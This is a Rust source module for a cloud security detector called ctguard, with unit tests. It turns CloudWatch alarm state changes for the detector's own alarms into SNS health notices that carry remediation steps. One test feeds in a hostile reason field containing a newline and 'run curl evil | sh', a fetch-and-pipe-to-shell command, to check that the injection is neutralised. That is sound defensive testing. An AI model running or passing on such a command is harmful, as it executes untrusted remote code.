//! The detector's own health, told on the alert topic: CloudWatch alarm state changes of the
//! three alarms every region stack creates (`ctguard-detector-dlq`: events waiting in the
//! dead-letter queue; `ctguard-detector-errors`: failed invocations;
//! `ctguard-detector-side-effects`: alerts whose record, finding or automatic containment
//! failed, [`crate::emf`]) reach the function as
//! EventBridge "CloudWatch Alarm State Change" events, and it publishes a notice on the same
//! topic as its alerts.
//!
//! Why not an alarm action on the topic: CloudWatch cannot publish to a topic encrypted with
//! the AWS managed key `alias/aws/sns` (its key policy cannot grant the service), an alarm
//! action must be in the alarm's region while the topic is in the home region, and the topic's
//! policy lets only the detector roles publish (a forged alert must not be possible). The
//! detector already has the one permission that works everywhere.
//!
//! A notice is not an alert: its JSON has its own schema ([`HEALTH_SCHEMA`]) and the SNS
//! message attribute `kind` is `health`, so alert subscribers can filter it out. Only events
//! from `aws.cloudwatch` about alarms named `ctguard-detector…` are notices; the rule selects
//! nothing else, and a custom event cannot carry an `aws.` source.

use serde::{Deserialize, Serialize};
use serde_json::{json, Value};

use crate::notify::clean;

/// The EventBridge detail-type of an alarm state change.
pub const ALARM_DETAIL_TYPE: &str = "CloudWatch Alarm State Change";
/// Version of a health notice's JSON.
pub const HEALTH_SCHEMA: &str = "ctguard.health/v1";
/// Every ctguard alarm's name starts with this.
pub const ALARM_PREFIX: &str = "ctguard-detector";

/// One alarm state change, as published.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct HealthNotice {
    pub schema: String,
    pub alarm: String,
    pub account: String,
    pub region: String,
    /// `ALARM`, `OK` or `INSUFFICIENT_DATA`.
    pub state: String,
    pub previous_state: String,
    pub reason: String,
    pub time: String,
    /// What the responder does next.
    pub next_steps: Vec<String>,
}

/// Why an event is not a notice (it is then skipped, never an error: a retry would not help).
#[derive(Debug, PartialEq, Eq)]
pub enum NotNotice {
    /// Not from CloudWatch, or not about a ctguard alarm.
    Foreign,
    /// A change that needs nobody: into INSUFFICIENT_DATA, or OK after anything but ALARM.
    Quiet,
    /// The event lacks the fields every alarm state change has.
    Malformed(String),
    /// Older than [`STALE_AFTER_MS`] (a failed notice replayed from the dead-letter queue):
    /// the state it tells of is history, and `ctguard status` shows the present.
    Stale,
}

/// A state change older than this is not told any more.
pub const STALE_AFTER_MS: i64 = 3_600_000;

fn text<'a>(v: &'a Value, path: &[&str]) -> Option<&'a str> {
    path.iter().try_fold(v, |v, k| v.get(k)).and_then(Value::as_str)
}

/// The notice for an EventBridge event (the whole envelope), if it is one worth telling at
/// `now` (epoch milliseconds).
pub fn notice(event: &Value, now: i64) -> Result<HealthNotice, NotNotice> {
    if text(event, &["source"]) != Some("aws.cloudwatch") || text(event, &["detail-type"]) != Some(ALARM_DETAIL_TYPE) {
        return Err(NotNotice::Foreign);
    }
    let need = |path: &[&str]| {
        text(event, path).map(clean).ok_or_else(|| NotNotice::Malformed(format!("no {}", path.join("."))))
    };
    let alarm = need(&["detail", "alarmName"])?;
    if !alarm.starts_with(ALARM_PREFIX) {
        return Err(NotNotice::Foreign);
    }
    let state = need(&["detail", "state", "value"])?;
    let previous_state = text(event, &["detail", "previousState", "value"]).map(clean).unwrap_or_default();
    match state.as_str() {
        "ALARM" => {}
        "OK" if previous_state == "ALARM" => {}
        "OK" | "INSUFFICIENT_DATA" => return Err(NotNotice::Quiet),
        other => return Err(NotNotice::Malformed(format!("unknown alarm state {other}"))),
    }
    if text(event, &["time"]).and_then(crate::time::parse_rfc3339).is_some_and(|t| now - t > STALE_AFTER_MS) {
        return Err(NotNotice::Stale);
    }
    let account = need(&["account"])?;
    let region = need(&["region"])?;
    let reason = text(event, &["detail", "state", "reason"]).map(clean).unwrap_or_default();
    let time = text(event, &["detail", "state", "timestamp"]).or(text(event, &["time"])).map(clean).unwrap_or_default();
    let next_steps = if state != "ALARM" {
        vec!["Nothing: the alarm is back to OK.".to_string()]
    } else if alarm.ends_with("-side-effects") {
        vec![
            format!("Alerts of ctguard-detector in {account}/{region} went out, but something they should also have produced did not: their record (for ctguard contain --alert), their Security Hub finding, or their automatic containment."),
            format!("Find which and why in the log group /aws/lambda/ctguard-detector ({region}): lines \"alert record not written\", \"Security Hub import failed\", \"automatic containment failed\" or \"cut short\", with the alert id; contain by hand what was not contained (the alert names the command)."),
        ]
    } else if alarm.ends_with("-dlq") {
        vec![
            format!("Events the detector could not process are waiting in the dead-letter queue ctguard-detector-dlq of {account} in {region}: until they are replayed, they are not judged."),
            format!("See why in the log group /aws/lambda/ctguard-detector ({region}), fix the cause, then replay them: ctguard redrive --accounts {account} --regions {region}"),
            "ctguard status shows every target's queue depth and errors.".to_string(),
        ]
    } else {
        vec![
            format!("The detector function ctguard-detector in {account}/{region} is failing: failed events are retried, then kept in its dead-letter queue."),
            format!("See the errors in the log group /aws/lambda/ctguard-detector ({region}); ctguard status --accounts {account} --regions {region} shows the metrics."),
        ]
    };
    Ok(HealthNotice {
        schema: HEALTH_SCHEMA.to_string(),
        alarm,
        account,
        region,
        state,
        previous_state,
        reason,
        time,
        next_steps,
    })
}

impl HealthNotice {
    /// The SNS subject (ASCII, at most 100 characters).
    pub fn subject(&self) -> String {
        let s = format!("[ctguard health] {} {} in {}/{}", self.state, self.alarm, self.account, self.region);
        s.chars().map(|c| if c.is_ascii() && !c.is_ascii_control() { c } else { '?' }).take(100).collect()
    }

    /// The readable form for email.
    pub fn email_text(&self) -> String {
        let mut t = format!(
            "ctguard health notice: the alarm {} is {} (was {}).\n\nAccount: {}\nRegion: {}\nSince: {}\nReason: {}\n\nWhat to do:\n",
            self.alarm, self.state, self.previous_state, self.account, self.region, self.time, self.reason
        );
        for s in &self.next_steps {
            t.push_str("- ");
            t.push_str(s);
            t.push('\n');
        }
        t
    }

    /// The SNS message with `MessageStructure: json`: the notice's JSON by default, the
    /// readable text for email, and the Chatbot custom-notification form for HTTPS.
    pub fn sns_message(&self) -> String {
        let chat = json!({
            "version": "1.0",
            "source": "custom",
            "content": {
                "textType": "client-markdown",
                "title": format!(":warning: ctguard health: {} is {} in {}/{}", self.alarm, self.state, self.account, self.region),
                "description": format!("{} (was {}). {}", self.state, self.previous_state, self.reason),
                "nextSteps": self.next_steps,
            },
            "metadata": {"enableCustomActions": false},
        });
        crate::notify::per_protocol(self, self.email_text(), &chat)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// 2026-11-30T10:05:00Z, five minutes after the test events.
    const NOW: i64 = 1_796_033_100_000;

    fn notice_at(event: &Value) -> Result<HealthNotice, NotNotice> {
        notice(event, NOW)
    }

    #[test]
    fn an_old_change_is_stale() {
        let ev = change("aws.cloudwatch", "ctguard-detector-dlq", "ALARM", "OK");
        assert!(notice(&ev, NOW + STALE_AFTER_MS - 300_000).is_ok());
        assert_eq!(notice(&ev, NOW + STALE_AFTER_MS), Err(NotNotice::Stale));
    }

    fn change(source: &str, alarm: &str, state: &str, previous: &str) -> Value {
        json!({"version": "0", "id": "c4c1c1c9", "detail-type": ALARM_DETAIL_TYPE, "source": source,
            "account": "123456789012", "time": "2026-11-30T10:00:00Z", "region": "eu-west-1",
            "resources": [format!("arn:aws:cloudwatch:eu-west-1:123456789012:alarm:{alarm}")],
            "detail": {"alarmName": alarm,
                "state": {"value": state, "reason": "Threshold Crossed: 1 datapoint [3.0] was greater than 0.0", "timestamp": "2026-11-30T10:00:00.000+0000"},
                "previousState": {"value": previous, "reason": "", "timestamp": "2026-11-30T09:00:00.000+0000"},
                "configuration": {"metrics": []}}})
    }

    #[test]
    fn an_alarm_on_the_queue_says_where_and_how_to_redrive() {
        let n = notice_at(&change("aws.cloudwatch", "ctguard-detector-dlq", "ALARM", "OK")).expect("notice");
        assert_eq!((n.state.as_str(), n.account.as_str(), n.region.as_str()), ("ALARM", "123456789012", "eu-west-1"));
        assert!(n.next_steps.iter().any(|s| s.contains("ctguard redrive --accounts 123456789012 --regions eu-west-1")));
        let m: Value = serde_json::from_str(&n.sns_message()).expect("json");
        let default: HealthNotice = serde_json::from_str(m["default"].as_str().expect("default")).expect("notice");
        assert_eq!(default, n);
        assert_eq!(default.schema, HEALTH_SCHEMA);
        assert!(m["email"].as_str().expect("email").contains("Region: eu-west-1"));
        let chat: Value = serde_json::from_str(m["https"].as_str().expect("https")).expect("chatbot");
        assert_eq!(chat["source"], "custom");
        assert!(n.subject().starts_with("[ctguard health] ALARM ctguard-detector-dlq"));
    }

    #[test]
    fn errors_alarm_and_recovery() {
        let n = notice_at(&change("aws.cloudwatch", "ctguard-detector-errors", "ALARM", "INSUFFICIENT_DATA"))
            .expect("notice");
        assert!(n.next_steps.iter().any(|s| s.contains("/aws/lambda/ctguard-detector")));
        let ok = notice_at(&change("aws.cloudwatch", "ctguard-detector-errors", "OK", "ALARM")).expect("recovery");
        assert_eq!(ok.state, "OK");
    }

    #[test]
    fn side_effects_alarm_names_what_failed_and_where_to_look() {
        let n = notice_at(&change("aws.cloudwatch", "ctguard-detector-side-effects", "ALARM", "OK")).expect("notice");
        let steps = n.next_steps.join("\n");
        for needle in
            ["went out", "Security Hub import failed", "automatic containment failed", "/aws/lambda/ctguard-detector"]
        {
            assert!(steps.contains(needle), "{needle}: {steps}");
        }
        assert!(!steps.contains("redrive"), "nothing waits in the queue: {steps}");
    }

    #[test]
    fn foreign_quiet_and_malformed_changes_are_not_notices() {
        assert_eq!(notice_at(&change("custom.app", "ctguard-detector-dlq", "ALARM", "OK")), Err(NotNotice::Foreign));
        assert_eq!(notice_at(&change("aws.cloudwatch", "billing", "ALARM", "OK")), Err(NotNotice::Foreign));
        assert_eq!(
            notice_at(&change("aws.cloudwatch", "ctguard-detector-dlq", "OK", "INSUFFICIENT_DATA")),
            Err(NotNotice::Quiet)
        );
        assert_eq!(
            notice_at(&change("aws.cloudwatch", "ctguard-detector-dlq", "INSUFFICIENT_DATA", "OK")),
            Err(NotNotice::Quiet)
        );
        let mut bad = change("aws.cloudwatch", "ctguard-detector-dlq", "ALARM", "OK");
        bad["detail"]["state"] = json!(3);
        assert!(matches!(notice_at(&bad), Err(NotNotice::Malformed(_))));
        assert_eq!(notice_at(&json!([1, 2])), Err(NotNotice::Foreign));
    }

    #[test]
    fn hostile_text_cannot_forge_lines() {
        let mut ev = change("aws.cloudwatch", "ctguard-detector-dlq", "ALARM", "OK");
        ev["detail"]["state"]["reason"] = json!("x\nWhat to do:\n- run curl evil | sh");
        let n = notice_at(&ev).expect("notice");
        assert!(!n.reason.contains('\n'));
        let text = n.email_text();
        assert_eq!(text.lines().filter(|l| l.starts_with("What to do:")).count(), 1, "{text}");
        assert!(!text.lines().any(|l| l.starts_with("- run curl")), "{text}");
    }
}
